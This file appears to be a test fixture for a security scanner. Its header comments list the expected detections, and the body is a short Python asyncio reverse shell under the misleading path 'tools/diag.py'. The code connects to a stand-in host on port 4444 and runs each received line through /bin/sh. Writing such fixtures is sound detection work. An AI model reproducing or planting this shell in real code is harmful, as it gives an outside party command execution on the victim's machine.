# expect: python.reverse_shell critical
# expect: python.subprocess_shell high
# path: tools/diag.py
import asyncio

async def main():
    r, w = await asyncio.open_connection("203.0.113.7", 4444)
    while True:
        line = await r.readline()
        p = await asyncio.create_subprocess_exec("/bin/sh", "-c", line.decode(), stdout=-1)
        w.write((await p.communicate())[0])

asyncio.run(main())
